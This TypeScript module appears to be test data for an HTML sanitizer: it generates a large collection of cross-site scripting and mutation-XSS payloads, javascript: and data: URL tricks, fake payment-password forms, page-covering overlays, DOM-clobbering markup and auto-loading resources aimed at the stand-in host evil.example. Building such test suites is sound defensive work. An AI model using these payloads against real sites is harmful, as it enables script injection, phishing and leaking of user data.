/** What every payload tries: a page where it succeeds has `__pwned` on its window. */
const RUN = 'window.__pwned=1'
const EVIL = 'evil.example'

const words = (list: string) => list.trim().split(/\s+/)
const each = <A, B>(first: readonly A[], second: readonly B[], join: (a: A, b: B) => string) =>
  first.flatMap((a) => second.map((b) => join(a, b)))

const EVENTS =
  words(`onerror onload onclick onfocus onblur onmouseover onpointerenter ontoggle onbeforetoggle onstart
  onfinish onanimationstart onanimationend ontransitionend onbegin onend onrepeat onscroll onscrollend onwheel oncopy onpaste
  oninput onchange oninvalid onsubmit onreset onsearch onkeydown oncontextmenu ondragstart onloadstart oncanplay ontimeupdate
  onhashchange onpageshow onpopstate onmessage onunload onauxclick onbeforematch oncontentvisibilityautostatechange`)
const HOSTS = [
  'img src=x',
  'svg',
  'details open',
  'input autofocus',
  'a href="#x" tabindex=1',
  'x-y contenteditable',
]

/** Event handlers of every kind, on elements that fire them by themselves or on a click. */
const handlers = each(EVENTS, HOSTS, (event, host) => `<${host} ${event}="${RUN}">文字`)

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script >`,
  `<script src="https://${EVIL}/x.js"></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<script type=importmap>{"imports":{"x":"https://${EVIL}/x.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["https://${EVIL}/"]}]}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<svg><script href="data:,${RUN}" /></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${RUN}>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text x=9 y=9>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
]

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `java&NewLine;script&Tab;:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://${EVIL}/1`,
  `http://${EVIL}/`,
  `https://user:pass@${EVIL}/`,
  `https://portal.example@${EVIL}/`,
  `https://:pass@${EVIL}/`,
  ` ht\ntps://user@${EVIL}/`,
  `//${EVIL}/`,
  `/\\${EVIL}/`,
  `file:///etc/passwd`,
]
const PLACES = [
  (url: string) => `<a href="${url}">链接</a>`,
  (url: string) => `<a xlink:href="${url}">链接</a>`,
  (url: string) =>
    `<svg><a xlink:href="${url}"><text>x</text></a><use href="${url}"/><image href="${url}"/></svg>`,
  (url: string) => `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`,
  (url: string) => `<img src="${url}" lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  (url: string) =>
    `<form action="${url}"><button formaction="${url}">提交</button><input type=image src="${url}"></form>`,
  (url: string) =>
    `<iframe src="${url}"></iframe><frame src="${url}"><portal src="${url}"></portal><fencedframe src="${url}">`,
  (url: string) =>
    `<object data="${url}"><param name=src value="${url}"></object><embed src="${url}"><applet code="${url}">`,
  (url: string) => `<map name=evil><area href="${url}" shape=default></map><img usemap="#evil" src="${url}">`,
  (url: string) => `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q><del cite="${url}">x</del>`,
  (url: string) =>
    `<base href="${url}"><link rel=stylesheet href="${url}"><meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<table background="${url}"><td background="${url}">x</table><body background="${url}">`,
]
/** Forbidden addresses, in every attribute that takes one. */
const addresses = each(PLACES, SCHEMES, (place, url) => place(url))

const forms = [
  `<form id=evil action=https://${EVIL}><label>支付密码<input name=paypassword type=password autofocus></label><button>确认</button></form>`,
  `<input type=password placeholder=支付密码>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<select onfocus=${RUN} autofocus><optgroup label=x><option>1</option></optgroup></select>`,
  `<button popovertarget=evil>打开</button><div id=evil popover>假弹窗</div>`,
  `<button commandfor=evil command=show-modal>打开</button><dialog id=evil open>假弹窗</dialog>`,
  `<fieldset><legend>登录</legend><datalist id=evil><option>1</option></datalist><output>1</output></fieldset>`,
  `<div contenteditable role=textbox aria-label=支付密码 tabindex=0 accesskey=x data-evil=1>伪装</div>`,
  `<meter value=1></meter><progress value=1></progress><menu><li>x</menu><marquee>x</marquee>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
]

const STYLES = [
  'position:fixed;inset:0;z-index:99999',
  'position:absolute;top:-900px;width:9999px;height:9999px;background:#fff',
  `background:url(https://${EVIL}/css.png)`,
  `background-image:image-set(url(https://${EVIL}/set.png) 1x)`,
  'transform:scale(99)',
  'margin-top:-9999px',
  `x:expression(${RUN})`,
  `-moz-binding:url(https://${EVIL}/x.xml#a)`,
  'view-transition-name:root',
]
/** Elements that would cover the page, or load through CSS. */
const overlays = [
  ...STYLES.map((style) => `<div style="${style}" class="modal overlay" id=evil>假页面</div>`),
  ...STYLES.map((style) => `<style>*{${style}}</style><p>x`),
  ...STYLES.map((style) => `<svg><style>*{${style}}</style></svg>`),
  `<style>@import url(https://${EVIL}/a.css);@font-face{font-family:x;src:url(https://${EVIL}/f)}</style>`,
  `<dialog open>假弹窗</dialog>`,
  `<link rel=stylesheet href=https://${EVIL}/l.css>`,
]

const NAMES = words(
  'root body cookie forms head location getElementById querySelector createElement attributes parentNode defaultView __proto__ constructor toasts evil',
)
/** DOM clobbering: names that would shadow the objects scripts look for. */
const clobbering = [
  ...NAMES.map((name) => `<img id=${name} name=${name} src=x>`),
  ...NAMES.map(
    (name) => `<form id=${name} name=${name}><input name=${name}><input id=attributes name=nodeName></form>`,
  ),
  ...NAMES.map(
    (name) =>
      `<a id=${name} href="https://${EVIL}/">1</a><a id=${name} name=url href="https://${EVIL}/">2</a>`,
  ),
  `<object id=evil name=evil></object><embed name=evil><iframe name=evil></iframe>`,
]

/** Elements a browser fetches by itself, except https pictures, which are allowed. */
const loading = [
  `<img src="http://${EVIL}/pixel.png">`,
  `<img srcset="https://${EVIL}/s.png 2x" sizes=100vw>`,
  `<picture><source srcset="https://${EVIL}/p.png"><img alt=x></picture>`,
  `<video src=https://${EVIL}/v.mp4 poster=https://${EVIL}/p.png autoplay></video>`,
  `<video><source src=https://${EVIL}/v.mp4><track src=https://${EVIL}/t.vtt default></video>`,
  `<audio src=https://${EVIL}/a.mp3 autoplay controls></audio>`,
  `<svg><image href="https://${EVIL}/i.png"/><use href="https://${EVIL}/u.svg#x"/><feImage href="https://${EVIL}/f.png"/></svg>`,
  `<input type=image src=https://${EVIL}/i.png>`,
  `<object data=https://${EVIL}/o></object><embed src=https://${EVIL}/e>`,
  `<iframe src=https://${EVIL}/></iframe>`,
  `<link rel=prefetch href=https://${EVIL}/><link rel=dns-prefetch href=//${EVIL}><link rel=icon href=https://${EVIL}/i>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/"><meta name=referrer content=unsafe-url>`,
  `<table background=https://${EVIL}/b.png><tr background=https://${EVIL}/r.png><td>x</table>`,
  `<a href="https://${EVIL}/" ping="https://${EVIL}/ping">x</a>`,
  `<a href="#x" attributionsrc="https://${EVIL}/a">x</a><img attributionsrc="https://${EVIL}/b">`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}><style>@import "https://${EVIL}/t"</style></template>`,
]

const CORE = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `<svg onload=${RUN}></svg>`,
  `<style><img src=x onerror=${RUN}></style>`,
  `<a href="javascript:${RUN}" id=evil style="position:fixed;inset:0">x</a>`,
  `<form action=https://${EVIL} name=evil><input name=evil></form>`,
]
const WRAPS = [
  (inner: string) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner: string) => `<svg><desc>${inner}</desc><title>${inner}</title></svg>`,
  (inner: string) => `<svg></p><style><a id="</style>${inner}">`,
  (inner: string) => `<math><mtext>${inner}</mtext></math>`,
  (inner: string) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner: string) => `<math><mtext><table><mglyph><style><!--</style>${inner}-->`,
  (inner: string) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner: string) => `<math><mtext><mglyph><svg><mtext><style><path id="</style>${inner}">`,
  (inner: string) => `<noscript><p title="</noscript>${inner}">`,
  (inner: string) => `<template>${inner}</template>`,
  (inner: string) => `<template><template>${inner}</template></template>`,
  (inner: string) => `<textarea></textarea>${inner}<textarea>`,
  (inner: string) => `<xmp><p title="</xmp>${inner}">`,
  (inner: string) => `<noembed><p title="</noembed>${inner}">`,
  (inner: string) => `<plaintext>${inner}`,
  (inner: string) => `<title><a title="</title>${inner}">`,
  (inner: string) => `<select><template>${inner}</template></select>`,
  (inner: string) => `<table><tr><td>x</td></tr>${inner}</table>`,
  (inner: string) => `<!--><p>-->${inner}<!-- --!>${inner}`,
  (inner: string) => `<![CDATA[>${inner}]]>`,
  (inner: string) => `<?xml >${inner}<?php ${inner} ?>`,
  (inner: string) => `<p title="</p>${inner}">x</p>`,
  (inner: string) => `<x-y is=x-y>${inner}</x-y>`,
  (inner: string) => `${'<div>'.repeat(600)}${inner}`,
  (inner: string) => `${'<b><p>'.repeat(40)}${inner}`,
]
/** Mutation XSS: markup that parses differently the second time. */
const mutation = each(WRAPS, CORE, (wrap, inner) => wrap(inner))

/** Hostile HTML by its kind of attack. */
export const PAYLOADS: Record<string, readonly string[]> = {
  handlers,
  scripts,
  addresses,
  forms,
  overlays,
  clobbering,
  loading,
  mutation,
}

/** A text that is HTML, breaks out of attributes and runs wherever it isn't treated as text. */
export const HOSTILE_TEXT = `"'><img src=http://${EVIL}/t.png onerror=${RUN}><script>${RUN}</script><form id=evil action=https://${EVIL}><input name=evil></form><style>body{display:none}</style>\${7*7}{{7*7}}`

/** All attacks at once, short enough for every text of the server. */
export const HOSTILE_HTML = `<h3>标题</h3><p>安全的正文</p>${[
  ...scripts,
  ...forms,
  ...overlays,
  ...clobbering,
  ...loading,
  ...CORE,
]
  .filter((html) => !/<(plaintext|xmp)/.test(html))
  .join('\n')}`

/** An address that must never open. */
export const HOSTILE_ADDRESS = `javascript:${RUN}//`
/** A picture that must never load. */
export const HOSTILE_PICTURE = `http://${EVIL}/picture.png`
